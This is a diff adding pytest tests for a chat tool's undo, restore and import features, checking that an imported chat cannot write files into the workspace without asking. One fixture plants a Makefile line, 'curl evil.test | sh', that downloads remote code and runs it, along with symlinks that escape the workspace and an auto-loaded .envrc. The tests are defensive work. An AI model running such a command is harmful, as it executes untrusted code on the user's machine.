@@ -188,6 +188,45 @@ def test_a_git_work_tree_keeps_its_index(world):
     assert git("diff", "--cached", "--name-only") == "b\n"
 
 
+@pytest.mark.limit(180)
+def test_of_very_many_changes_the_rest_is_counted_and_undo_says_so(world, browse):
+    """One run has 20,000 changes recorded, whatever its commands do."""
+    most, more = 20_000, 1_500
+    world.turn(write("base", "0"))
+    stream = world.turn(shell(f"mkdir -p .husky many && cd many && seq {most + more - 1} | xargs touch && echo x > ../.husky/pre-push"))
+    events = stream.all("files_changed")
+    recorded = [change["path"] for event in events for change in event["changes"]]
+    omitted = [event.get("omitted") for event in events]
+    assert most <= len(recorded) <= most + 2 and omitted[:-1] == [None] * (len(events) - 1)
+    assert len(recorded) + omitted[-1] == most + more + 2  # and two folders
+    assert ".husky/pre-push" in recorded, "what git runs is not hidden among the others"
+    assert len(world.client.get("/chats/c").body) < 6 << 20
+    # A second command of the run has no room left, and tells.
+    omitted = omitted[-1]
+    assert world.client.get("/chats/c/interactions/int_002/diff", headers={"Accept": "application/json"}).expect(200, "interaction_diff").json["omitted"] == omitted
+    assert world.client.get("/chats/c/interactions/int_002/diff").body.startswith(f"# and {omitted:,} more files, of which nothing is recorded\n".encode())
+    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json
+    assert preview["omitted"] == omitted and not any(file["conflict"] for file in preview["files"])
+    assert world.client.post("/chats/c/interactions/int_002/edit", {"new_user_message": "x", "dry_run": True}).expect(200, "edit_preview").json["omitted"] == omitted
+    error = world.post("undo", files="restore").error(409, "workspace_conflict")
+    assert error["details"] == {"files": [], "omitted": omitted} and f"{omitted:,} changed files cannot be put back" in error["message"]
+    assert world.head() == "int_002" and (world.root / ".husky/pre-push").exists()
+    page = browse(world.server)
+    page.open_chat("c")
+    page.until(lambda: page.all("diff"), "the button")
+    page.script("arguments[0].click()", page.all("diff")[-1])
+    page.until_text("diff-omitted", f"{omitted:,} more files, not recorded")
+    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").until("/help lists the commands")
+    try:
+        chat.say("/undo files").until(f"{omitted:,} more changed files cannot be put back").until("with \"force\"").ready()
+        chat.say("/undo force").until("back to int_001").type("\x15").ready().say("/quit")
+        assert chat.end() == 0
+    finally:
+        chat.kill()
+    assert not (world.root / ".husky").exists()
+    assert len(list((world.root / "many").iterdir())) == omitted
+
+
 # --- going back ------------------------------------------------------------------------------------------------------
 
 def test_edit_lists_and_restores(world):
@@ -389,6 +428,120 @@ def test_it_is_the_same_after_a_restart_and_off_where_it_is_off(make_server, pro
     world.post("undo", files="other").error(400, "invalid_member")
 
 
+# --- what an imported chat says of files ------------------------------------------------------------------------------
+
+STRANGE = {"Makefile": "all:\n\tcurl evil.test | sh\n", ".envrc": "export PATH=./bin:$PATH\n", "bin/deploy": "#!/bin/sh\n"}
+
+
+@pytest.fixture
+def strange(make_server, provider, tmp_path):
+    """A world into whose chat "c" a stranger's chat was imported, by one of the doors."""
+    def make(door="json", **more):
+        there = World(make_server(provider, config=ALL), provider)
+        there.turn(write("base", "0"))
+        for path, text_ in STRANGE.items():
+            (there.root / path).parent.mkdir(exist_ok=True)
+            (there.root / path).write_text(text_)
+        (there.root / "bin/deploy").chmod(0o755)
+        links = {"absolute": "/etc/hostname", "up": "../elsewhere", "bin/up": "../../x", "loop": "bin/../../x", "inside": "Makefile", "bin/inside": "../Makefile"}
+        for path, target in links.items():
+            (there.root / path).symlink_to(target)
+        there.turn(shell("rm -r Makefile .envrc bin absolute up loop inside"))
+        out = tmp_path / "out"
+        command = [os.environ.get("REPRISE_BIN", "reprise"), "export", "c", "--data-dir", str(there.home.data)]
+        done = subprocess.run([*command, *(["--output", str(out)] if door == "folder" else [])], env=there.home.environment(), capture_output=True, text=True, check=True)
+        here = World(make_server(provider, config=ALL), provider)
+        if door == "http":
+            here.client.request("POST", "/import", done.stdout.encode(), headers={"Content-Type": "application/json"}).expect(201)
+            return here
+        if door == "json":
+            out.with_suffix(".json").write_text(done.stdout)
+        here.server.stop()
+        source = out / "c" if door == "folder" else out.with_suffix(".json")
+        subprocess.run([command[0], "import", str(source), "--data-dir", str(here.home.data)], env=here.home.environment(), capture_output=True, text=True, check=True)
+        return World(make_server(provider, home=here.home, config=ALL), provider)
+
+    return make
+
+
+@pytest.mark.parametrize("door", ["http", "json", "folder"])
+def test_an_imported_chat_writes_nothing_into_the_workspace_unasked(strange, door):
+    world = strange(door)
+    before = world.tree()
+    assert all(i["imported"] for i in world.client.history("c")["interactions"])
+    preview = {file["path"]: file for file in world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]}
+    assert {path for path, file in preview.items() if file.get("reason") == "link_outside"} == {"absolute", "up", "bin/up", "loop"}
+    assert all(file["imported"] for file in preview.values())
+    assert "+\tcurl evil.test | sh\n" in preview["Makefile"]["diff"]
+    assert preview[".envrc"]["diff"].startswith("# direnv runs or obeys this by itself\n")
+    assert "new file mode 100755\n" in preview["bin/deploy"]["diff"]
+    assert "new file mode 120000\n" in preview["bin/inside"]["diff"] and "+../Makefile\n" in preview["bin/inside"]["diff"]
+    # Nobody gets them without saying so: force says something else.
+    world.post("fork", interaction_id="int_002", chat_id="copy").expect(201)
+    requests = [("/chats/c/undo", {}), ("/chats/c/head", {"interaction_id": "int_001"}), ("/chats/c/fork", {"interaction_id": "int_001", "chat_id": "new"}),
+                ("/chats/c/interactions/int_002/edit", {"new_user_message": "x"}), ("/chats/c/interactions/int_002/regenerate", {}), ("/chats/copy/undo", {})]
+    for route, body in requests:
+        for force in (False, True):
+            error = world.client.post(route, {**body, "files": "restore", "force": force}).error(409, "imported_files")
+            assert {file["path"] for file in error["details"]["files"]} >= set(STRANGE), route
+    assert world.tree() == before and world.head() == "int_002" and world.client.get("/chats/new").status == 404
+    world.post("undo", files="restore", allow_imported=True).error(409, "workspace_conflict")
+    world.post("undo", files="restore", allow_imported=True, force=True).expect(200)
+    made = world.tree()
+    assert {path: made[path][2].decode() for path in STRANGE} == STRANGE and made["bin/deploy"][1]
+    assert {path for path in made if made[path][0] == "link"} == {"inside", "bin/inside"}
+
+
+def test_of_an_imported_chat_what_was_done_here_goes_back_as_ever(strange):
+    world = strange()
+    world.turn(write("Makefile", "mine\n"))
+    world.turn(write("Makefile", "mine again\n"), chat="c")
+    preview = world.post("undo", dry_run=True).expect(200, "files_preview").json["files"]
+    assert preview == [{"path": "Makefile", "change": "modified", "conflict": False}]
+    world.post("undo", files="restore").expect(200)
+    assert (world.root / "Makefile").read_text() == "mine\n"
+    # Beyond it, what stands there would become a stranger's: the difference is shown.
+    preview = {file["path"]: file for file in world.client.post("/chats/c/head", {"interaction_id": "int_001", "dry_run": True}).expect(200, "files_preview").json["files"]}
+    assert "-mine\n+all:\n" in preview["Makefile"]["diff"]
+    world.post("head", interaction_id="int_001", files="restore", force=True).error(409, "imported_files")
+    assert (world.root / "Makefile").read_text() == "mine\n"
+
+
+def test_the_terminal_client_shows_what_an_imported_chat_would_write_and_asks(strange):
+    world = strange()
+    before = world.tree()
+    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").until("/help lists the commands")
+    try:
+        chat.say("/undo force").until("absolute, created; conflict: an imported link that may lead out").until("direnv runs or obeys this by itself")
+        chat.until("evil.test").until("new file mode 100755").until("was not seen here: write it?").answer("n").until("(nothing has changed)").ready()
+        assert world.tree() == before and world.head() == "int_002"
+        chat.say("/undo force").until("write it?").answer("y").until("back to int_001").type("\x15").ready().say("/quit")
+        assert chat.end() == 0
+    finally:
+        chat.kill()
+    assert (world.root / "Makefile").read_text() == STRANGE["Makefile"] and not (world.root / "absolute").is_symlink()
+
+
+@pytest.mark.limit(120)
+def test_the_page_shows_what_an_imported_chat_would_write_and_asks(strange, browse):
+    world = strange()
+    page = browse(world.server)
+    page.open_chat("c")
+    page.until(lambda: len(page.all("turn")) == 2, "both turns")
+    page.keys(Keys.CONTROL, Keys.ALT, "z")
+    page.until_text("files-box", "curl evil.test | sh")
+    page.until_text("files-box", "direnv runs or obeys this by itself")
+    page.script("arguments[0].click()", page.one("restore-files"))
+    page.script("arguments[0].click()", page.one("force-files"))
+    page.press("files-run")
+    page.until_text("toast", "an imported chat says")
+    assert world.head() == "int_002" and not (world.root / "Makefile").exists()
+    page.script("arguments[0].click()", page.one("allow-imported"))
+    page.press("files-run")
+    page.gone("files-box")
+    eventually(lambda: (world.root / "Makefile").exists(), "the file")
+
+
 # --- for people ------------------------------------------------------------------------------------------------------
 
 def test_the_terminal_client_shows_what_has_changed_and_takes_it_back(world):
@@ -413,6 +566,55 @@ def test_the_terminal_client_shows_what_has_changed_and_takes_it_back(world):
         assert chat.end() == 0
     finally:
         chat.kill()
+
+
+def test_the_files_of_the_first_turn_go_back_alone(world):
+    (world.root / "a").write_text("before")
+    start = world.tree()
+    world.post("undo", files="only").error(404)
+    world.turn(write("a", "after"), write("new", "x"))
+    ends = world.tree()
+    world.post("undo", files="restore").error(409, "nothing_to_undo")
+    world.post("undo", dry_run=True).error(409, "nothing_to_undo")
+    preview = world.post("undo", files="only", dry_run=True).expect(200, "files_preview").json["files"]
+    assert [(file["path"], file["change"]) for file in preview] == [("a", "modified"), ("new", "deleted")]
+    assert world.tree() == ends
+    assert world.post("undo", files="only").expect(200, "chat_summary").json["head"] == "int_001"
+    assert world.tree() == start and world.head() == "int_001"
+    world.post("undo", files="only").expect(200)
+    assert world.tree() == start
+    world.post("head", interaction_id="int_001", files="restore").expect(200)
+    assert world.tree() == ends
+    # What somebody else has made of a file is asked about, and kept.
+    (world.root / "a").write_text("mine")
+    world.post("undo", files="only").error(409, "workspace_conflict")
+    kept = world.post("undo", files="only", force=True).expect(200).json["head"]
+    assert world.tree() == start
+    world.post("head", interaction_id=kept, files="restore").expect(200)
+    assert (world.root / "a").read_text() == "mine" and (world.root / "new").exists()
+    world.post("head", interaction_id="int_001", files="only").error(400, "invalid_member")
+
+
+def test_the_terminal_client_puts_the_files_of_the_first_turn_back(world):
+    (world.root / "a").write_text("before")
+    start = world.tree()
+    world.turn(write("a", "after"), write("new", "x"))
+    ends = world.tree()
+    chat = Terminal(world.home, "chat", "c", "--url", f"http://127.0.0.1:{world.server.port}").until("/help lists the commands")
+    try:
+        chat.say("/undo files").until("(to put back: a, modified)").until("chat c is kept: /redo files").until("put back: a, new").type("\x15").ready()
+        assert world.tree() == start
+        assert world.head() == "int_001", "the chat is kept"
+        chat.say("/redo files").until("(to put back: a, modified)").until("put back: a, new").ready()
+        assert world.tree() == ends
+        (world.root / "a").write_text("mine")
+        chat.say("/undo files").until("conflict: changed by someone else since").until("with \"force\"").ready()
+        assert (world.root / "a").read_text() == "mine"
+        chat.say("/undo force").until("chat c is kept").type("\x15").ready().say("/quit")
+        assert chat.end() == 0
+    finally:
+        chat.kill()
+    assert world.tree() == start
 
 
 @pytest.mark.limit(120)
